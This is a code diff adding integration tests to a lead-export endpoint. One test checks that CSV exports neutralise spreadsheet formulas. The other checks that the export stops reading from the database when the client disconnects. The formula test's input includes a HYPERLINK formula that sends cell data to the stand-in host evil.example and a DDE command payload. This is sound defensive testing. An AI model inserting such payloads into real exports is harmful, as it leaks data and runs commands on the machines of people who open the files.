@@ -1,4 +1,4 @@
-import { Modules } from "@medusajs/framework/utils"
+import { ContainerRegistrationKeys, Modules } from "@medusajs/framework/utils"
 import { medusaIntegrationTestRunner } from "@medusajs/test-utils"
 import { SOLAR360_MODULE } from "../../src/modules/solar360"
 import type Solar360ModuleService from "../../src/modules/solar360/service"
@@ -215,6 +215,86 @@ medusaIntegrationTestRunner({
         expect(text).toContain('"João ""Sol"", Jr."')
         expect(text).toContain("São José")
         expect(text.slice(1).trim().split("\n")).toHaveLength(2)
+      })
+
+      it("neutralises cells that a spreadsheet would run as formulas, and keeps numbers as numbers", async () => {
+        await capture({
+          name: '=HYPERLINK("http://evil.example/?"&A1,"abrir")',
+          email: "formula@example.com",
+          company: "@SUM(1,1)",
+          city: "-2+3",
+          utm_source: "+cmd|' /C calc'!A0",
+          utm_medium: "\tleading-tab",
+          utm_campaign: "csvinj",
+          monthly_bill_brl: 900,
+        })
+        const response = await api.get("/admin/leads/export?utm_campaign=csvinj", { ...admin, responseType: "arraybuffer" })
+        const [header, row] = Buffer.from(response.data).toString("utf8").slice(1).trim().split("\n")
+        const columns = header.split(",")
+        // Parse the one row (quoted fields may hold commas).
+        const cells = [...row.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)]
+          .map((m) => m[1])
+          .slice(0, columns.length)
+          .map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell))
+        const byName = Object.fromEntries(columns.map((name, i) => [name, cells[i]]))
+        expect(byName.name).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"abrir")`)
+        expect(byName.company).toBe("'@SUM(1,1)")
+        expect(byName.city).toBe("'-2+3")
+        expect(byName.utm_source).toBe("'+cmd|' /C calc'!A0")
+        expect(byName.utm_medium).toBe("'\tleading-tab")
+        expect(byName.email).toBe("formula@example.com")
+        expect(byName.monthly_bill_brl).toBe("900")
+      })
+
+      it("stops reading leads from the database when the client disconnects", async () => {
+        const bulk = Array.from({ length: 8000 }, (_, i) => ({
+          email: `gone${i}@example.com`,
+          name: `Lead ${i}`,
+          interest_type: "catalog",
+          utm_campaign: "abort",
+        }))
+        await solar360.createLeads(bulk as any)
+        const query = getContainer().resolve(ContainerRegistrationKeys.QUERY)
+        const logger = getContainer().resolve(ContainerRegistrationKeys.LOGGER)
+        const info = jest.spyOn(logger, "info")
+        const graph = query.graph.bind(query)
+        let leadPages = 0
+        let aborted!: () => void
+        const clientAborted = new Promise<void>((resolve) => (aborted = resolve))
+        const spy = jest.spyOn(query, "graph").mockImplementation((async (config: any, ...rest: any[]) => {
+          if (config.entity === "lead") {
+            leadPages++
+            // Page 2 is read only once the client has gone: the outcome cannot depend on timing.
+            if (leadPages === 2) {
+              await clientAborted
+            }
+          }
+          return graph(config, ...rest)
+        }) as any)
+        try {
+          const controller = new AbortController()
+          const response = await api.get("/admin/leads/export?utm_campaign=abort", {
+            ...admin,
+            responseType: "stream",
+            signal: controller.signal,
+          })
+          await new Promise<void>((resolve) => {
+            response.data.once("data", () => {
+              controller.abort()
+              response.data.destroy()
+              resolve()
+            })
+          })
+          aborted()
+          await eventually(async () => {
+            expect(info).toHaveBeenCalledWith(expect.stringContaining("lead export stopped after"))
+          })
+          // 8 pages of 1,000 exist; the export read the first and at most the one in flight.
+          expect(leadPages).toBeLessThanOrEqual(3)
+        } finally {
+          spy.mockRestore()
+          info.mockRestore()
+        }
       })
 
       it("rejects an unknown sort column with 400 and needs an admin (401)", async () => {
